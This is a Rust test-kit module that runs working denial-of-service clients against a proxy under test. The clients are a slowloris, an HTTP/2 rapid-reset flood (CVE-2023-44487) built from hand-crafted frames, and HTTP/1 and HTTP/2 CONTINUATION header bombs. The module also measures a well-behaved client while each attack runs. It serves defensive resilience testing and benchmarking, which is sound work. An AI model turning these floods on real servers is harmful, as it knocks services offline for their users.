//! Hostile clients against one proxy listener (issue 12): a slowloris, an HTTP/2 rapid-reset
//! flood and a header bomb (HTTP/1 and HTTP/2 CONTINUATION), and the well-behaved client that
//! measures the proxy while one runs ([`measure_under`]).
//!
//! Shared by the chaos tests (crates/testkit/tests/chaos/hostile.rs, which assert bounds) and the
//! benchmark (bench/hostile, which measures a release proxy pinned to one CPU).
//!
//! Every attack runs until a deadline and every socket call has [`IO_TIMEOUT`], so each ends.
//! The attacks are paced (per attacker thread at most one 200 KB request, one stream of 256
//! CONTINUATION frames, or 100 HEADERS+RST_STREAM pairs a millisecond): an attacker in the same
//! process as the measurement would otherwise take the CPU the measurement needs, while this is
//! still far beyond any legitimate client.

use std::collections::BTreeMap;
use std::io::{Read as _, Write as _};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::{Duration, Instant};

use crate::load::{self, LoadReport, LoadSpec};

/// Socket timeouts of the attackers, so every blocking call ends.
pub const IO_TIMEOUT: Duration = Duration::from_secs(1);
/// How long an attack runs before the good client starts measuring, so the whole measurement
/// is under attack.
pub const HEAD_START: Duration = Duration::from_millis(500);

/// One of the attacks, by name (for the benchmark's command line and its JSON).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    Slowloris,
    RapidReset,
    HeaderBomb,
    /// The header bomb's halves alone, to tell which one costs what.
    HeaderBombH1,
    HeaderBombH2,
}

impl Attack {
    /// The three attacks.
    pub const ALL: [Attack; 3] = [Attack::Slowloris, Attack::RapidReset, Attack::HeaderBomb];
    /// Every attack, with the header bomb's halves.
    pub const EVERY: [Attack; 5] = [
        Attack::Slowloris,
        Attack::RapidReset,
        Attack::HeaderBomb,
        Attack::HeaderBombH1,
        Attack::HeaderBombH2,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Attack::Slowloris => "slowloris",
            Attack::RapidReset => "http2-rapid-reset",
            Attack::HeaderBomb => "header-bomb",
            Attack::HeaderBombH1 => "header-bomb-h1",
            Attack::HeaderBombH2 => "header-bomb-h2",
        }
    }

    pub fn parse(name: &str) -> Option<Self> {
        Self::EVERY.into_iter().find(|a| a.name() == name)
    }

    /// Proxy flags the attack needs to show the proxy's defence within a short run: the default
    /// header read timeout (30 s) outlasts a slowloris of a few seconds.
    pub fn proxy_args(self) -> &'static [&'static str] {
        match self {
            Attack::Slowloris => &["--header-read-timeout", "2s"],
            _ => &[],
        }
    }

    /// Runs the attack against `addr` until `deadline`: a description of what it did and how
    /// many hostile requests, streams or frames it got onto the wire.
    pub fn run(self, addr: SocketAddr, deadline: Instant) -> (String, u64) {
        match self {
            Attack::Slowloris => {
                let r = slowloris(addr, deadline, SLOWLORIS_CONNECTIONS);
                (r.describe(), r.opened)
            }
            Attack::RapidReset => {
                let r = rapid_reset(addr, deadline, 2);
                (r.describe(), r.streams)
            }
            Attack::HeaderBomb => {
                let r = header_bomb(addr, deadline);
                (r.describe(), r.sent())
            }
            Attack::HeaderBombH1 => {
                let r = HeaderBomb {
                    h1: h1_bomb(addr, deadline),
                    ..HeaderBomb::default()
                };
                (r.describe(), r.sent())
            }
            Attack::HeaderBombH2 => {
                let (h2_connections, h2_frames) = h2_bomb(addr, deadline);
                let r = HeaderBomb {
                    h2_connections,
                    h2_frames,
                    ..HeaderBomb::default()
                };
                (r.describe(), r.sent())
            }
        }
    }
}

/// The slowloris' connection count.
pub const SLOWLORIS_CONNECTIONS: usize = 500;

/// The attackers' own source address when they attack an IPv4 loopback address: a real
/// attacker is another peer than the clients it hurts, and the proxy may treat an address it
/// caught abusing it differently (`--abusive-peer-penalty`); the good client stays on 127.0.0.1.
pub const ATTACKER_SOURCE: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 2));

/// Connects with [`IO_TIMEOUT`] on every call, from [`ATTACKER_SOURCE`] to an IPv4 loopback
/// address.
pub fn connect(addr: SocketAddr) -> std::io::Result<TcpStream> {
    let s = if addr.is_ipv4() && addr.ip().is_loopback() {
        connect_from(ATTACKER_SOURCE, addr)?
    } else {
        TcpStream::connect_timeout(&addr, IO_TIMEOUT)?
    };
    s.set_read_timeout(Some(IO_TIMEOUT))?;
    s.set_write_timeout(Some(IO_TIMEOUT))?;
    s.set_nodelay(true)?;
    Ok(s)
}

thread_local! {
    /// One small runtime per attacker thread, for [`connect_from`]: std cannot bind a socket
    /// before connecting it, tokio's `TcpSocket` can.
    static CONNECTOR: Option<tokio::runtime::Runtime> = tokio::runtime::Builder::new_current_thread()
        .enable_io()
        .enable_time()
        .build()
        .ok();
}

/// A blocking `TcpStream` from `source` (any port) to `addr`, connected within [`IO_TIMEOUT`].
pub fn connect_from(source: IpAddr, addr: SocketAddr) -> std::io::Result<TcpStream> {
    use std::io::{Error, ErrorKind};
    let connect = async {
        let socket = match source {
            IpAddr::V4(_) => tokio::net::TcpSocket::new_v4()?,
            IpAddr::V6(_) => tokio::net::TcpSocket::new_v6()?,
        };
        // Thousands of short connections from one address: a port whose last connection is in
        // TIME_WAIT may be bound again.
        socket.set_reuseaddr(true)?;
        socket.bind(SocketAddr::new(source, 0))?;
        let stream = tokio::time::timeout(IO_TIMEOUT, socket.connect(addr))
            .await
            .map_err(|_| Error::new(ErrorKind::TimedOut, format!("connect to {addr}")))??;
        let stream = stream.into_std()?;
        stream.set_nonblocking(false)?;
        Ok(stream)
    };
    CONNECTOR.with(|rt| match rt {
        Some(rt) => rt.block_on(connect),
        None => Err(Error::other("no tokio runtime for connect_from")),
    })
}

/// What a slowloris did.
#[derive(Clone, Debug, Default)]
pub struct Slowloris {
    pub connections: usize,
    pub opened: u64,
    /// Connections the proxy closed (a write failed), each then reopened.
    pub closed: u64,
}

impl Slowloris {
    pub fn describe(&self) -> String {
        format!(
            "{} slow connections, {} opened, {} closed by the proxy",
            self.connections, self.opened, self.closed
        )
    }
}

/// `connections` connections, each sending one more header line a second and never finishing
/// its request head; every one the proxy closes is reopened.
pub fn slowloris(addr: SocketAddr, deadline: Instant, connections: usize) -> Slowloris {
    let mut conns: Vec<Option<TcpStream>> = (0..connections).map(|_| None).collect();
    let (mut opened, mut closed) = (0u64, 0u64);
    let mut round = 0u64;
    while Instant::now() < deadline {
        for c in conns.iter_mut() {
            match c {
                None => {
                    if let Ok(mut s) = connect(addr)
                        && s.write_all(b"GET /slow HTTP/1.1\r\nHost: victim\r\n")
                            .is_ok()
                    {
                        opened += 1;
                        *c = Some(s);
                    }
                }
                Some(s) => {
                    if s.write_all(format!("X-Slow-{round}: 1\r\n").as_bytes())
                        .is_err()
                    {
                        closed += 1;
                        *c = None;
                    }
                }
            }
        }
        round += 1;
        // One line per connection per second, the attack's whole point.
        let pause = deadline
            .saturating_duration_since(Instant::now())
            .min(Duration::from_secs(1));
        std::thread::sleep(pause);
    }
    Slowloris {
        connections,
        opened,
        closed,
    }
}

/// HTTP/2 frames, by hand: the attacks need exactly the frames a well-behaved client library
/// refuses to send.
pub mod h2frame {
    pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    pub const HEADERS: u8 = 1;
    pub const RST_STREAM: u8 = 3;
    pub const SETTINGS: u8 = 4;
    pub const PING: u8 = 6;
    pub const GOAWAY: u8 = 7;
    const CONTINUATION: u8 = 9;
    pub const END_STREAM: u8 = 0x1;
    /// On SETTINGS (and PING).
    pub const ACK: u8 = 0x1;
    pub const END_HEADERS: u8 = 0x4;

    pub fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
        let len = payload.len() as u32;
        out.extend_from_slice(&len.to_be_bytes()[1..]);
        out.push(kind);
        out.push(flags);
        out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
        out.extend_from_slice(payload);
    }

    pub fn settings(out: &mut Vec<u8>) {
        frame(out, SETTINGS, 0, 0, &[]);
    }

    pub fn settings_ack(out: &mut Vec<u8>) {
        frame(out, SETTINGS, ACK, 0, &[]);
    }

    /// GOAWAY: streams above `last_stream_id` were not processed; `code` is the error code.
    pub fn goaway(out: &mut Vec<u8>, last_stream_id: u32, code: u32) {
        let mut payload = (last_stream_id & 0x7fff_ffff).to_be_bytes().to_vec();
        payload.extend_from_slice(&code.to_be_bytes());
        frame(out, GOAWAY, 0, 0, &payload);
    }

    /// GET / with :authority victim, in HPACK with static-table indices only (no dynamic
    /// table state to keep).
    pub fn get_block() -> Vec<u8> {
        let mut b = vec![0x82, 0x86, 0x84];
        // Literal without indexing, name = static index 1 (:authority).
        b.extend_from_slice(&[0x01, 6]);
        b.extend_from_slice(b"victim");
        b
    }

    /// A literal header `name: value` (new name, without indexing); both under 127 bytes, so
    /// each length fits HPACK's 7-bit prefix (longer ones are cut).
    pub fn literal(block: &mut Vec<u8>, name: &[u8], value: &[u8]) {
        let name = &name[..name.len().min(126)];
        let value = &value[..value.len().min(126)];
        block.push(0x00);
        block.push(name.len() as u8);
        block.extend_from_slice(name);
        block.push(value.len() as u8);
        block.extend_from_slice(value);
    }

    pub fn headers(out: &mut Vec<u8>, flags: u8, stream: u32, block: &[u8]) {
        frame(out, HEADERS, flags, stream, block);
    }

    pub fn continuation(out: &mut Vec<u8>, flags: u8, stream: u32, block: &[u8]) {
        frame(out, CONTINUATION, flags, stream, block);
    }

    /// One step of a rapid-reset flood (CVE-2023-44487): `stream` opened with the request
    /// `block` (HEADERS with END_STREAM) and at once cancelled.
    pub fn open_and_cancel(out: &mut Vec<u8>, stream: u32, block: &[u8]) {
        headers(out, END_HEADERS | END_STREAM, stream, block);
        rst_stream(out, stream);
    }

    /// A whole rapid-reset connection in one buffer: the preface, SETTINGS, then `streams`
    /// streams opened (GET /) and cancelled at once, before a server can accept any of them.
    pub fn rapid_reset_burst(streams: u32) -> Vec<u8> {
        let mut out = PREFACE.to_vec();
        settings(&mut out);
        let block = get_block();
        for i in 0..streams {
            open_and_cancel(&mut out, 2 * i + 1, &block);
        }
        out
    }

    /// The first whole frame at the front of `buf`, as (type, flags, payload), and the bytes
    /// it takes; `None` until its payload has arrived.
    pub fn split(buf: &[u8]) -> Option<(u8, u8, &[u8], usize)> {
        let head = buf.get(..9)?;
        let len = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
        let payload = buf.get(9..9 + len)?;
        Some((head[3], head[4], payload, 9 + len))
    }

    /// The whole frames at the front of `buf`, in order, as (type, flags, payload); a frame
    /// whose payload has not all arrived ends them.
    pub fn frames(buf: &[u8]) -> impl Iterator<Item = (u8, u8, &[u8])> {
        let mut rest = buf;
        std::iter::from_fn(move || {
            let (kind, flags, payload, taken) = split(rest)?;
            rest = &rest[taken..];
            Some((kind, flags, payload))
        })
    }

    /// The error code a GOAWAY frame's payload carries (after the last stream id).
    pub fn goaway_code(payload: &[u8]) -> Option<u32> {
        let code: [u8; 4] = payload.get(4..8)?.try_into().ok()?;
        Some(u32::from_be_bytes(code))
    }

    /// RST_STREAM(CANCEL), as a client resetting its own request sends it.
    pub fn rst_stream(out: &mut Vec<u8>, stream: u32) {
        reset(out, stream, 8);
    }

    /// The PING ACK answering a PING with `payload` (its 8 opaque bytes).
    pub fn ping_ack(out: &mut Vec<u8>, payload: &[u8]) {
        frame(out, PING, ACK, 0, payload);
    }

    /// RST_STREAM with the error `code`.
    pub fn reset(out: &mut Vec<u8>, stream: u32, code: u32) {
        frame(out, RST_STREAM, 0, stream, &code.to_be_bytes());
    }
}

/// Reads and discards whatever the server sends until it closes (or `done`), so its writes
/// never stall on our side; counts the bytes.
fn drain(mut s: TcpStream, done: Arc<AtomicBool>, bytes: Arc<AtomicU64>) {
    let mut buf = [0u8; 16 * 1024];
    while !done.load(Ordering::Relaxed) {
        match s.read(&mut buf) {
            Ok(0) => return,
            Ok(n) => {
                bytes.fetch_add(n as u64, Ordering::Relaxed);
            }
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                ) => {}
            Err(_) => return,
        }
    }
}

/// Opens h2c connections one after another until `deadline`, running `send` on each (which
/// writes until the connection fails or the deadline), and returns (connections, frames sent).
pub fn h2_attacker(
    addr: SocketAddr,
    deadline: Instant,
    mut send: impl FnMut(&mut TcpStream, Instant) -> u64,
) -> (u64, u64) {
    let (mut connections, mut sent) = (0u64, 0u64);
    let done = Arc::new(AtomicBool::new(false));
    let read_bytes = Arc::new(AtomicU64::new(0));
    std::thread::scope(|s| {
        while Instant::now() < deadline {
            let Ok(mut conn) = connect(addr) else {
                std::thread::sleep(Duration::from_millis(10));
                continue;
            };
            let mut hello = h2frame::PREFACE.to_vec();
            h2frame::settings(&mut hello);
            if conn.write_all(&hello).is_err() {
                continue;
            }
            connections += 1;
            if let Ok(reader) = conn.try_clone() {
                let (done, read_bytes) = (done.clone(), read_bytes.clone());
                s.spawn(move || drain(reader, done, read_bytes));
            }
            sent += send(&mut conn, deadline);
            let _ = conn.shutdown(std::net::Shutdown::Both);
        }
        done.store(true, Ordering::Relaxed);
    });
    (connections, sent)
}

/// What a rapid-reset flood did.
#[derive(Clone, Debug, Default)]
pub struct RapidReset {
    pub attackers: usize,
    pub connections: u64,
    /// HEADERS+RST_STREAM pairs written.
    pub streams: u64,
}

impl RapidReset {
    pub fn describe(&self) -> String {
        format!(
            "{} attackers wrote {} HEADERS+RST_STREAM pairs over {} connections (the proxy closes each after a few; most pairs die in socket buffers)",
            self.attackers, self.streams, self.connections
        )
    }
}

/// `attackers` threads, each opening stream after stream and cancelling it at once, in batches
/// of 100 pairs a millisecond at most (100,000 streams a second per attacker), reconnecting
/// whenever the proxy closes.
pub fn rapid_reset(addr: SocketAddr, deadline: Instant, attackers: usize) -> RapidReset {
    let block = h2frame::get_block();
    let results: Vec<(u64, u64)> = std::thread::scope(|s| {
        let threads: Vec<_> = (0..attackers)
            .map(|_| {
                let block = block.clone();
                s.spawn(move || {
                    h2_attacker(addr, deadline, |conn, deadline| {
                        let mut stream = 1u32;
                        let mut batch = Vec::with_capacity(64 * 1024);
                        let mut pairs = 0;
                        while Instant::now() < deadline && stream < 0x7fff_0000 {
                            batch.clear();
                            for _ in 0..100 {
                                h2frame::open_and_cancel(&mut batch, stream, &block);
                                stream += 2;
                            }
                            if conn.write_all(&batch).is_err() {
                                break;
                            }
                            pairs += 100;
                            std::thread::sleep(Duration::from_millis(1));
                        }
                        pairs
                    })
                })
            })
            .collect();
        // A panicked attacker counts as having sent nothing.
        threads
            .into_iter()
            .map(|a| a.join().unwrap_or_default())
            .collect()
    });
    RapidReset {
        attackers,
        connections: results.iter().map(|r| r.0).sum(),
        streams: results.iter().map(|r| r.1).sum(),
    }
}

/// What a header bomb did.
#[derive(Clone, Debug, Default)]
pub struct HeaderBomb {
    /// HTTP/1: what the proxy answered each 200 KB head (status, `closed`, `connect failed`).
    pub h1: BTreeMap<String, u64>,
    pub h2_connections: u64,
    pub h2_frames: u64,
}

impl HeaderBomb {
    pub fn describe(&self) -> String {
        format!(
            "HTTP/1 200 KB heads answered {:?}; HTTP/2 {} CONTINUATION frames of 16 KB over {} connections",
            self.h1, self.h2_frames, self.h2_connections
        )
    }

    pub fn sent(&self) -> u64 {
        self.h1.values().sum::<u64>() + self.h2_frames
    }
}

/// Two attackers at once: HTTP/1 request heads of 2,000 headers of 100 bytes (200 KB), again
/// and again; and HTTP/2 streams of a HEADERS frame without END_HEADERS followed by 256
/// CONTINUATION frames of 16 KB of literal headers (4 MB per stream).
pub fn header_bomb(addr: SocketAddr, deadline: Instant) -> HeaderBomb {
    let (h1, (h2_connections, h2_frames)) = std::thread::scope(|s| {
        let h1 = s.spawn(move || h1_bomb(addr, deadline));
        let h2 = s.spawn(move || h2_bomb(addr, deadline));
        (h1.join().unwrap_or_default(), h2.join().unwrap_or_default())
    });
    HeaderBomb {
        h1,
        h2_connections,
        h2_frames,
    }
}

fn h1_bomb(addr: SocketAddr, deadline: Instant) -> BTreeMap<String, u64> {
    let mut head = b"GET /bomb HTTP/1.1\r\nHost: victim\r\n".to_vec();
    for i in 0..2000 {
        head.extend_from_slice(format!("X-Bomb-{i:04}: {}\r\n", "b".repeat(86)).as_bytes());
    }
    head.extend_from_slice(b"\r\n");
    let mut outcomes = BTreeMap::<String, u64>::new();
    while Instant::now() < deadline {
        let outcome = match connect(addr) {
            Err(_) => "connect failed".to_string(),
            Ok(mut conn) => {
                // The proxy may close before reading it all: then the write fails, and the
                // answer (if any) is still read.
                let _ = conn.write_all(&head);
                let mut answer = [0u8; 64];
                match conn.read(&mut answer) {
                    Ok(n) if n >= 12 && answer.starts_with(b"HTTP/1.1 ") => {
                        String::from_utf8_lossy(&answer[9..12]).into_owned()
                    }
                    Ok(_) | Err(_) => "closed".to_string(),
                }
            }
        };
        *outcomes.entry(outcome).or_insert(0) += 1;
        std::thread::sleep(Duration::from_millis(1));
    }
    outcomes
}

fn h2_bomb(addr: SocketAddr, deadline: Instant) -> (u64, u64) {
    h2_attacker(addr, deadline, |conn, deadline| {
        let mut block = Vec::with_capacity(16 * 1024);
        let mut i = 0u32;
        while block.len() < 16 * 1024 - 128 {
            h2frame::literal(&mut block, format!("x-bomb-{i}").as_bytes(), &[b'b'; 100]);
            i += 1;
        }
        let mut frames = 0;
        let mut stream = 1u32;
        while Instant::now() < deadline {
            let mut out = Vec::new();
            h2frame::headers(&mut out, h2frame::END_STREAM, stream, &h2frame::get_block());
            if conn.write_all(&out).is_err() {
                return frames;
            }
            for n in 0..256 {
                out.clear();
                let flags = if n == 255 { h2frame::END_HEADERS } else { 0 };
                h2frame::continuation(&mut out, flags, stream, &block);
                if Instant::now() >= deadline || conn.write_all(&out).is_err() {
                    return frames;
                }
                frames += 1;
            }
            stream += 2;
            std::thread::sleep(Duration::from_millis(1));
        }
        frames
    })
}

/// The well-behaved client: `GET /good` at `rate` for `duration`, open loop ([`load::run`]).
pub fn good_client(addr: SocketAddr, rate: u32, duration: Duration) -> Result<LoadReport, String> {
    load::run(&LoadSpec::new(
        format!("http://{addr}/good"),
        rate,
        duration,
    ))
}

/// What the good client saw while an attack ran.
#[derive(Clone, Debug)]
pub struct UnderAttack {
    pub report: LoadReport,
    /// The attack's description and count (as [`Attack::run`]).
    pub what: String,
    pub sent: u64,
}

/// Runs `attack` (given the target and a deadline `attack_for` from now) and, after
/// [`HEAD_START`], the good client at `rate` for `attack_for` less one second, so the whole
/// measurement is under attack and ends before it.
pub fn measure_under(
    addr: SocketAddr,
    rate: u32,
    attack_for: Duration,
    attack: impl FnOnce(SocketAddr, Instant) -> (String, u64) + Send,
) -> Result<UnderAttack, String> {
    let measure_for = attack_for.saturating_sub(Duration::from_secs(1));
    if measure_for.is_zero() {
        return Err(format!(
            "attack duration {attack_for:?} too short: the good client measures for it less 1 s"
        ));
    }
    std::thread::scope(|s| {
        let deadline = Instant::now() + attack_for;
        let attacker = s.spawn(move || attack(addr, deadline));
        std::thread::sleep(HEAD_START);
        let report = good_client(addr, rate, measure_for);
        let (what, sent) = attacker
            .join()
            .map_err(|_| "the attacker thread panicked".to_string())?;
        Ok(UnderAttack {
            report: report?,
            what,
            sent,
        })
    })
}
